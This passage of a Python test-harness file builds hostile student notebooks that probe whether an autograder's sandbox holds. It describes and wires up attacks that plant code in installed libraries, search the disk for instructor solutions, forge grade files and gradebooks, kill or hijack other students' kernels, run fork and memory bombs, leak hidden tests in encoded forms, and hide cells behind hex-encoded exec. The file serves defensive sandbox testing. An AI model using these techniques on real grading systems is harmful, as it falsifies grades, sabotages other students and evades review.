    file); then reloads rnnlab.grading so this kernel's own tests pass. Against a grader that runs the
    kernel with write access to its installation this scores full marks, and so does every student graded
    after it on that machine, whatever the assignment. A safe grader runs the kernel on a read-only
    installation (every write fails), scores it as blank and leaves every file unchanged.
    """
    cell = _cell("write_library", _guarded("_payload_write_library()"), _payload_append, _payload_site_dirs,
                 _payload_numpy_file, _payload_write_library, _GRADING_BLOCK=_GRADING_BLOCK,
                 _NUMPY_BLOCK=_NUMPY_BLOCK, _NEUTER_SOURCE=_NEUTER_SOURCE)  # fmt: skip
    return _before_first_answer(kit.released, cell)


def attack_read_disk(kit: Kit) -> NotebookNode:
    """Searches the whole disk for the instructor's notebooks and gradebooks and runs the solutions found.

    Prints the home directory and the environment; then walks the cwd's ancestors, the temp dir, home,
    the usual places and / (skipping /proc, /sys, /dev; following any folder a JSON file names, such as
    a grader's course root) for ``SEARCH_CELLS`` cells of ``SEARCH_SECONDS`` each. Any .ipynb with
    solution markers whose answer cells match this notebook's gives its solutions; any SQLite gradebook
    gives its hidden tests, printed. After every answer cell it runs the solutions found, so the answers
    are defined. Unsandboxed this scores full marks (its feedback is withheld for the printed tests). A
    safe grader shows the kernel nothing but the student's own folder: blank score, nothing printed.
    """
    nb = kit.released
    all_ids = {c.metadata["nbgrader"]["grade_id"] for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id")}
    answer_ids = {nb.cells[i].metadata["nbgrader"]["grade_id"] for i in answer_indices(nb)}
    start = """
        _payload_show_home_and_environment()
        _attack_front = []
        _attack_state = {"answer_ids": _ANSWER_IDS, "all_ids": _ALL_IDS, "solutions": {}, "printed": set(),
                         "front": _attack_front, "files": _payload_files(_payload_roots(), _attack_front)}
    """
    search = f"_payload_search(_attack_state, {SEARCH_SECONDS})\nprint(len(_attack_state['solutions']), 'found')"
    functions = (_payload_roots, _payload_files, _payload_paths_in, _payload_without_markers,
                 _payload_read_notebook, _payload_read_database, _payload_search, _payload_apply,
                 _payload_show_home_and_environment)  # fmt: skip
    cells = [_cell("read_disk", _guarded(start) + _guarded(search), *functions, _ANSWER_IDS=answer_ids,
                   _ALL_IDS=all_ids)]  # fmt: skip
    cells += [_cell("read_disk", _guarded(search)) for _ in range(SEARCH_CELLS - 1)]
    _before_first_answer(nb, *cells)
    return _after_each_answer(nb, lambda: _cell("read_disk", _guarded("_payload_apply(_attack_state, globals())")))


def attack_outlive(kit: Kit) -> NotebookNode:
    """Starts 20 processes meant to outlive the kernel, each with ``PROCESS_MARKER`` in its command line.

    Five double-fork + setsid daemons and five ``Popen(start_new_session=True)`` Pythons sleeping
    ``LONG_SECONDS``, five ``sleep`` processes whose argv[0] is the marker, three started through
    ``setsid -f``, all with SIGTERM, SIGHUP and SIGINT ignored, and two fork-hoppers that change pid every
    half second. Unsandboxed they survive grading (killing the grader's process tree misses them). A safe
    grader kills every process the kernel started, however detached (a PID namespace or cgroup), before
    it reports the student: none is left when grading returns.
    """
    sleeper = f"import time; time.sleep({LONG_SECONDS})"
    hop = _daemon_code(f"_payload_hop({SHORT_SECONDS})", _payload_hop)
    body = f"""
        import shutil, sys
        for _ in range(5):
            _payload_daemon({sleeper!r}, "outlive_fork")
            _payload_spawn([sys.executable, "-c", {sleeper!r}, _MARKER + "_outlive_popen"])
            if shutil.which("sleep"):
                _payload_spawn([_MARKER + "_outlive_sleep", "{LONG_SECONDS}"], executable=shutil.which("sleep"))
        for _ in range(3):
            if shutil.which("setsid"):
                _payload_spawn(["setsid", "-f", sys.executable, "-c", {sleeper!r}, _MARKER + "_outlive_setsid"])
        for _ in range(2):
            _payload_daemon({hop!r}, "outlive_hop")
        print("started the processes")
    """
    cell = _cell("outlive", _guarded(body), _payload_spawn, _payload_daemon)
    return _before_first_answer(kit.released, cell)


def attack_forge_results(kit: Kit) -> NotebookNode:
    """Leaves a daemon that, after the kernel ends, forges everything a grader reads after execution.

    For ``DAEMON_SECONDS`` it walks the grading run's folder (four levels above the cwd), every folder a
    JSON file there names (the course root) and, bit by bit, the whole disk, and rewrites every executed
    notebook with nbgrader cells so that no cell has an error or stderr output (nbgrader: full marks),
    every gradebook so each grade is its maximum, every ``grades*.csv`` and ``results-*.json`` so every
    student has full marks. (For the test machine's sake it only writes under the temp dir, outside git
    trees.) Unsandboxed, this student, the others graded meanwhile and the final grade files come out
    full. A safe grader kills the daemon with the kernel, and the kernel can write nothing the grader reads.
    """
    functions = (_payload_files, _payload_roots, _payload_run_root, _payload_paths_in, _payload_may_write,
                 _payload_replace, _payload_forge_notebook, _payload_forge_database, _payload_forge_csv,
                 _payload_forge_results, _payload_forge_one, _payload_forge)  # fmt: skip
    cell = _daemon_cell("forge_results", "forge", f"_payload_forge({DAEMON_SECONDS})", *functions)
    return _before_first_answer(kit.released, cell)


def attack_memory_bytearray(kit: Kit) -> NotebookNode:
    """Allocates 6 GiB in one go, twice: ``bytearray(6 GiB)``, then ``numpy.ones`` of 6 GiB (kept).

    MemoryError is caught and the notebook runs on. Unsandboxed both succeed on a big machine (or the
    machine starts swapping, or the OOM killer picks a process, perhaps not this one); where touching
    6 GiB takes longer than the cell timeout (about 10 s on a small VM), the kernel cannot be interrupted
    inside the fill and the whole notebook times out. A safe grader caps the kernel's memory so both are
    refused at once (an address-space limit: MemoryError) or only this kernel dies, and scores it as blank.
    """
    first = f"""
        _attack_block = bytearray(6 * {GIB})
        print("allocated", len(_attack_block) // {GIB}, "GiB")
        del _attack_block
    """
    second = f"""
        import numpy
        _attack_array = numpy.ones(6 * {GIB} // 8)
        print("allocated", _attack_array.nbytes // {GIB}, "GiB with numpy")
    """
    handler = "except MemoryError:\n    print('memory refused')\n"
    cells = [_cell("memory", _guarded(code).replace("except Exception", f"{handler}except Exception"))
             for code in (first, second)]  # fmt: skip
    return _before_first_answer(kit.released, *cells)


def attack_memory_children(kit: Kit) -> NotebookNode:
    """Starts 4 multiprocessing children that each touch 1.5 GiB, then hold it (marked) for ``SHORT_SECONDS``.

    Unsandboxed they hold 6 GiB beyond the kernel's own memory, and go on holding it after grading. A safe
    grader's memory cap covers the kernel's children too (or they die with it) and none is left.
    """
    body = f"_payload_memory_children(4, {int(1.5 * GIB)}, {SHORT_SECONDS})"
    handler = "except MemoryError:\n    print('memory refused')\n"
    cell = _cell("memory_children", _guarded(body).replace("except Exception", f"{handler}except Exception"),
                 _payload_memory_child, _payload_memory_children)  # fmt: skip
    return _before_first_answer(kit.released, cell)


def attack_leak_encoded(kit: Kit) -> NotebookNode:
    """Captures every later cell's source with a ``pre_run_cell`` hook and writes the unseen lines out, encoded.

    The lines it leaks are those of the cells it did not write whose text is not in the released
    notebook: the hidden tests. Each is written as ``LEAKMARK:<encoding>:<value>`` in every encoding of
    :func:`encodings` (base64, base32, hex, rot13, zlib+base64, reversed, char codes, zero-width spaces):
    printed by the hook into each test cell's own output; appended (base64, hex) to the message of every
    error (a test cell's error message survives the feedback's traceback trimming); and, in cells at the
    end, printed again per encoding, written to stderr, displayed as HTML (and an HTML comment), as
    Markdown, as a PNG's text chunk, and raised as an exception. Unsandboxed the feedback page carries
    them: a plain-text leak check finds none. A safe grader's feedback shows no ``LEAK_MARKER`` and no
    encoded hidden line (for instance: no output of any cell the student could run code in), and the
    score is blank's.
    """
    nb = kit.released
    known = sorted({_line_hash(line) for cell in nb.cells for line in cell.source.split("\n") if line.strip()})
    start = _cell("leak_encoded", _guarded("_attack_leaked = _payload_leak_install()"), _leak_forms,
                  _payload_leak_lines, _payload_leak_payloads, _payload_leak_png, _payload_leak_install,
                  _payload_leak_emit, _KNOWN=set(known))  # fmt: skip
    names = [name for name, _ in _leak_forms("x")]
    ends = [f"_payload_leak_emit(_attack_leaked, 'stdout', ({name!r},))" for name in names]
    ends += ["_payload_leak_emit(_attack_leaked, 'stderr', ('b64', 'zwsp'))"]
    ends += [f"_payload_leak_emit(_attack_leaked, {channel!r})" for channel in ("html", "markdown", "png")]
    cells = [_cell("leak_encoded", _guarded(code)) for code in ends]
    cells.append(_cell("leak_encoded", "_payload_leak_emit(_attack_leaked, 'raise')"))
    _before_first_answer(nb, start)
    return _at_end(nb, *cells)


def attack_process_bomb(kit: Kit) -> NotebookNode:
    """A bounded fork bomb: 500 ``sleep`` processes (argv[0] the marker) and 500 threads, until refused.

    Unsandboxed all start and the processes outlive the kernel for ``SHORT_SECONDS``. A safe grader caps
    the kernel's processes (the rest are refused), kills the ones started with the kernel, and scores it
    as blank.
    """
    cell = _cell("process_bomb", _guarded(f"_payload_bomb(500, {SHORT_SECONDS})"), _payload_bomb)
    return _before_first_answer(kit.released, cell)


def attack_kill_neighbours(kit: Kit) -> NotebookNode:
    """Leaves a daemon that SIGKILLs every other student's kernel of the same grading run, for ``DAEMON_SECONDS``.

    Neighbours are found in /proc: an ``ipykernel`` whose parent is a coursegrader process and whose cwd
    is under the run's folder. Unsandboxed, students graded at the same time or after it get "kernel
    died" and no points. A safe grader's kernel sees no other process (PID namespace) and the daemon dies
    with the kernel: every other student's grade is unchanged.
    """
    functions = (_payload_run_root, _payload_proc, _payload_neighbours, _payload_kill_neighbours)
    call = f"_payload_kill_neighbours({DAEMON_SECONDS}, _KERNEL)"
    return _before_first_answer(kit.released, _daemon_cell("kill_neighbours", "kill", call, *functions))


def attack_hijack_kernels(kit: Kit) -> NotebookNode:
    """Leaves a daemon that runs code in the other students' kernels through their connection files.

    The kernels' connection files (with their HMAC keys) lie in the shared temp dir. For
    ``DAEMON_SECONDS`` the daemon connects to each neighbour kernel (as in ``attack_kill_neighbours``) and
    executes, silently, the import hook that makes every ``check_*`` pass. Unsandboxed, students graded
    at the same time or after it get marks they did not earn. A safe grader keeps each kernel's files
    private and its network (ports on 127.0.0.1) closed to other kernels, and kills the daemon.
    """
    functions = (_payload_run_root, _payload_proc, _payload_neighbours, _payload_listening, _payload_hijack)
    call = f"_payload_hijack({DAEMON_SECONDS}, _KERNEL)"
    cell = _daemon_cell("hijack_kernels", "hijack", call, *functions, _NEUTER_SOURCE=_NEUTER_SOURCE)
    return _before_first_answer(kit.released, cell)


def attack_grader_pipes(kit: Kit) -> NotebookNode:
    """Leaves a daemon that holds the grader's stdout/stderr open and writes forged summary lines into them.

    It opens ``/proc/<pid>/fd/1`` and ``/fd/2`` of each coursegrader ancestor of the kernel and writes
    ``graded 99/99 students; mean 100.0/100 <PROCESS_MARKER>`` every second for ``DAEMON_SECONDS``.
    Unsandboxed, whoever reads the grader's output waits until the daemon ends and reads the forged line
    last. A safe grader gives the kernel none of its own descriptors (and no view of /proc) and kills the
    daemon: its output ends with its own summary, on time.
    """
    call = f"_payload_hold_pipes({DAEMON_SECONDS}, _KERNEL)"
    return _before_first_answer(kit.released, _daemon_cell("grader_pipes", "pipes", call, _payload_proc,
                                                           _payload_hold_pipes))  # fmt: skip


def attack_tamper_gradebooks(kit: Kit) -> NotebookNode:
    """Rewrites every gradebook it can reach from the cwd: test cells become ``pass``, points times ten.

    It walks the run's folder (and the course a JSON file there names), and changes every SQLite
    gradebook found there: the worker's pristine copy every student's grading starts from, the other
    students' copies, the course's gradebook. Unsandboxed the next students of its worker are refused
    (the pristine copy's checksum changed) or graded against ``pass``. A safe grader shows the kernel no
    gradebook: nobody's grade changes.
    """
    body = "_payload_tamper_databases()"
    functions = (_payload_run_root, _payload_files, _payload_paths_in, _payload_may_write, _payload_tamper_databases)
    return _before_first_answer(kit.released, _cell("tamper_gradebooks", _guarded(body), *functions))


def attack_fill_disk(kit: Kit) -> NotebookNode:
    """Writes 1 GiB of files into the cwd and 1 GiB into the temp dir (each bounded to 5 s), left behind.

    Unsandboxed the files stay: the temp dir's after grading, the cwd's copied into the course's
    ``grading/`` with the autograded notebook. A safe grader caps the kernel's disk (writes refused) or
    discards its scratch space, publishes only the notebook, and leaves no marked file in the temp dir.
    """
    cells = [_cell("fill_disk", _guarded(f"import os, tempfile\n_payload_fill({folder}, {GIB}, 5)"), _payload_fill)
             for folder in ("os.getcwd()", "tempfile.gettempdir()")]  # fmt: skip
    return _before_first_answer(kit.released, *cells)


def attack_unflagged_write_library(kit: Kit) -> NotebookNode:
    """``attack_write_library`` with every attacker cell hidden as ``exec(bytes.fromhex(...))``.

    The review flags only read the notebook's text, so none is raised. A safe grader scores it as blank.
    """
    return _disguised(attack_write_library(kit))


def attack_unflagged_leak(kit: Kit) -> NotebookNode:
    """``attack_leak_encoded`` with every attacker cell hidden as ``exec(bytes.fromhex(...))``: no review flag.

    A safe grader's feedback shows no ``LEAK_MARKER`` and no encoded hidden line, and the score is blank's.
    """
    return _disguised(attack_leak_encoded(kit))


# --------------------------------------------------------------------------------------------------
# For the tests
# --------------------------------------------------------------------------------------------------


def _line_hash(line: str) -> str:
    import hashlib

    return hashlib.sha1(line.strip().encode()).hexdigest()[:12]


def encodings(line: str) -> list[str]:
    """The encoded forms of one hidden-test line (stripped) the leaking students write out.

    Search a feedback page's text (``html.unescape`` it first: the rot13 and reversed forms contain
    quotes and brackets) for each; the PNG channel carries ``LEAK_MARKER`` and the base64 forms in the
    text chunk of an embedded image.
    """
    return [value for _, value in _leak_forms(line.strip())]


def marked_processes() -> list[int]:
    """pids of the live processes whose command line carries ``PROCESS_MARKER`` (zombies excluded)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if PROCESS_MARKER.encode() in cmdline and state != "Z":
            found.append(int(entry.name))
    return found


def kill_marked(rounds: int = 20) -> int:
    """SIGKILL every marked process until none is left (fork-hoppers change pid); how many were killed."""
    killed = 0
    for _ in range(rounds):
        pids = marked_processes()
        if not pids:
            break
        for pid in pids:
            try:
                os.kill(pid, signal.SIGKILL)
                killed += 1
            except OSError:
                pass
        time.sleep(0.2)
    return killed


def library_folders() -> list[Path]:
    """Every folder ``attack_write_library`` writes into, for this interpreter (the kernel's, in the tests)."""
    import numpy

    import rnnlab.grading

    numeric = Path(_payload_numpy_file()).parent
    sites = {Path(folder) for folder in _payload_site_dirs()}
    return sorted({Path(rnnlab.grading.__file__).parent, numeric, Path(numpy.__file__).parent, *sites})


def undo_writes(*folders: Path) -> list[Path]:
    """Take ``attack_write_library``'s marked blocks out of the files in ``folders`` (not below), delete its files.

    Call it with :func:`library_folders` after a test that may have let the attack write.
    """
    begin, end = f"\n\n# {PROCESS_MARKER} begin", f"# {PROCESS_MARKER} end\n"
    alternative = f"\n# {PROCESS_MARKER} begin"
    changed = []
    for folder in folders:
        for path in sorted(Path(folder).iterdir()) if Path(folder).is_dir() else []:
            if not path.is_file() or path.suffix not in (".py", ".pth"):
                continue
            if PROCESS_MARKER in path.name:
                path.unlink()
                changed.append(path)
                continue
            text = path.read_text(encoding="utf-8", errors="replace")
            if f"# {PROCESS_MARKER} begin" not in text:
                continue
            while f"# {PROCESS_MARKER} begin" in text:
                start = text.find(begin) if begin in text else text.find(alternative)
                stop = text.find(end, start)
                text = text[:start] + text[stop + len(end) :] if stop >= 0 else text[:start]
            if text.strip() or path.name not in ("sitecustomize.py", "usercustomize.py"):
                path.write_text(text, encoding="utf-8")
            else:
                path.unlink()
            changed.append(path)
    return changed


ATTACKS = [
    "attack_write_library",
    "attack_read_disk",
    "attack_outlive",
    "attack_forge_results",
    "attack_memory_bytearray",
    "attack_memory_children",
    "attack_leak_encoded",
    "attack_process_bomb",
    "attack_kill_neighbours",
    "attack_hijack_kernels",
    "attack_grader_pipes",
    "attack_tamper_gradebooks",
    "attack_fill_disk",
    "attack_unflagged_write_library",
    "attack_unflagged_leak",
]
MARKERS = [PROCESS_MARKER, LEAK_MARKER]
